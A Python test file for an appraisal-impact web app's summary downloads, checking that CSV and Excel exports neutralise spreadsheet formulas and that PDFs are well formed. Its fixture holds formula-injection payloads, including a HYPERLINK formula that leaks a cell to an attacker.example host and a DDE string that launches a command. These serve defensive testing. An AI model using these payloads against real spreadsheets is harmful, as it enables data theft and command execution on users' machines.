"""Files of a summary: CSV (UTF-8 with BOM, formulas neutralised), Excel (numbers as numbers, text never a
formula) and PDF (WeasyPrint, local fonts), for signed-in users and from a share link."""

from __future__ import annotations

import csv
import io
import re
import zlib
from datetime import date, timedelta

import openpyxl
import pytest
from sqlmodel import select

from appraisal_impact.audit import Actor, apply_changes
from appraisal_impact.exports.summary_files import neutralise, pdf_text
from appraisal_impact.models import Appraisal, Icb
from tests.conftest import TEST_TODAY, sign_in

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
NASTY = {
    "title": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "medicine": "@SUM(1+1)*cmd|' /C calc'!A0",
    "indication": "+1+1",
    "tumour_site": "-2+3",
}


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
     ("\r=1", "'\r=1"), ("Pembrolizumab", "Pembrolizumab"), ("", ""), (None, None), (-12.5, -12.5), (3, 3),
     ("a=b", "a=b")],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.fixture
def nasty_appraisal(seeded, users) -> Appraisal:
    """An appraisal whose text fields are spreadsheet formulas (as a hostile import or typing might make them)."""
    appraisal = seeded.exec(select(Appraisal).where(Appraisal.ta_number == "TA823")).one()
    apply_changes(seeded, Actor(users["lead"].id, "lead", "web"), appraisal, NASTY)
    seeded.commit()
    return appraisal


def inflate_pdf(data: bytes) -> bytes:
    """The PDF with every Flate stream decompressed after it, so that names and metadata can be searched."""
    parts = [data]
    for match in re.finditer(rb"stream\r?\n", data):
        start = match.end()
        try:
            parts.append(zlib.decompressobj().decompress(data[start:start + 5_000_000]))
        except zlib.error:
            continue
    return b"\n".join(parts)


def _csv_rows(response) -> list[list[str]]:
    body = response.data
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark, so that Excel reads £ and accents"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _share(client, target: str, figures="snapshot") -> str:
    expires = TEST_TODAY + timedelta(days=10)
    response = client.post("/sharing/new", data={
        "target": target, "label": "Board paper", "figures": figures,
        "expires-day": expires.day, "expires-month": expires.month, "expires-year": expires.year})
    assert response.status_code == 201
    return re.search(r'value="http://localhost(/s/[A-Za-z0-9_-]{43})"', response.get_data(as_text=True)).group(1)


def _download_urls(app, client, appraisal: Appraisal, kind: str) -> list[str]:
    """The signed-in download and the share-link download of the same summary."""
    shared = _share(client, f"appraisal:{appraisal.id}")
    return [f"/summaries/appraisals/{appraisal.id}/summary.{kind}", f"{shared}/summary.{kind}"]


def test_csv_neutralises_formulas_and_keeps_numbers_as_numbers(app, client, users, nasty_appraisal):
    sign_in(client, users["alliance"])
    for url in _download_urls(app, client, nasty_appraisal, "csv"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert re.match(r'attachment; filename="appraisal-summary-TA823-\d{4}-\d\d-\d\d\.csv"', response.headers["Content-Disposition"])
        rows = _csv_rows(response)
        # a fifth column gives the reason a blank (not yet known) figure is blank
        assert rows[0] == ["Section", "Row", "Figure", "Value", "Not yet known because"]
        cells = [cell for row in rows for cell in row]
        for cell in cells:
            assert not cell.startswith(FORMULA_START) or NUMBER.match(cell), f"unsafe cell {cell!r}"
        for value in NASTY.values():
            assert "'" + value in cells, value
        # a figure is a plain number: the alliance's total cost in year 1
        total = [row for row in rows if row[1] == "ALL All trusts in the alliance" and row[2] == "Total cost in year 1 (£)"]
        assert len(total) == 1 and NUMBER.match(total[0][3]) and float(total[0][3]) > 0


def test_excel_has_no_formula_text_is_neutralised_and_figures_are_numbers(app, client, users, nasty_appraisal):
    sign_in(client, users["alliance"])
    for url in _download_urls(app, client, nasty_appraisal, "xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        workbook = openpyxl.load_workbook(io.BytesIO(response.data))
        assert workbook.sheetnames == ["About", "Deadlines", "By trust", "Treatments", "Assumptions"]
        strings = []
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(FORMULA_START), f"{sheet.title}!{cell.coordinate} {cell.value!r}"
                        strings.append(cell.value)
        for value in NASTY.values():
            assert "'" + value in strings
        by_trust = workbook["By trust"]
        headings = [c.value for c in by_trust[4]]
        cost_column = headings.index("Total cost in year 1 (£)") + 1
        costs = [by_trust.cell(row=r, column=cost_column).value for r in range(5, by_trust.max_row + 1)]
        assert costs and all(isinstance(c, (int, float)) for c in costs)
        assert by_trust.cell(row=5, column=cost_column).number_format == "£#,##0"


def test_icb_files_have_a_sheet_for_each_part(client, users, seeded):
    sign_in(client, users["alliance"])
    workbook = openpyxl.load_workbook(io.BytesIO(client.get("/summaries/icbs/QRL/summary.xlsx").data))
    assert workbook.sheetnames == ["About", "Appraisals", "Trusts", "Capacity", "Assumptions"]
    trusts = {row[0].value for row in workbook["Trusts"].iter_rows(min_row=5)}
    assert trusts == {"RHM", "RHU", "RN5", "R1F"}  # Hampshire and Isle of Wight's four trusts
    rows = _csv_rows(client.get("/summaries/icbs/QRL/summary.csv"))
    assert any(row[2] == "Figures as at" and re.match(r"\d{4}-\d\d-\d\d$", row[3]) for row in rows)


def test_pdf_is_a_pdf_with_the_figures_date_and_no_navigation(app, client, users, seeded):
    sign_in(client, users["alliance"])
    icb = seeded.exec(select(Icb).where(Icb.ods_code == "QVV")).one()
    shared = _share(client, f"icb:{icb.id}")
    for url in ("/summaries/icbs/QVV/summary.pdf", f"{shared}/summary.pdf"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.headers["Content-Type"] == "application/pdf"
        assert response.data.startswith(b"%PDF-")
        assert response.data.rstrip().endswith(b"%%EOF")
        expanded = inflate_pdf(response.data)
        assert re.search(rb"/FontName /[A-Z]{6}\+(Liberation-Sans|DejaVu-Sans)", expanded)  # a local font, embedded
        assert b"/Type /Page" in expanded or b"/Type/Page" in expanded
    html = app.test_client().get(f"{shared}/print").get_data(as_text=True)
    text = pdf_text(html)
    assert "Figures as at" in text
    assert "Dorset" in text
    assert "Sign in" not in text and "Pipeline" not in text.split("Appraisals and their deadlines")[0]


def test_an_unknown_file_type_is_not_found(client, users, seeded):
    sign_in(client, users["alliance"])
    assert client.get("/summaries/icbs/QVV/summary.docx").status_code == 404
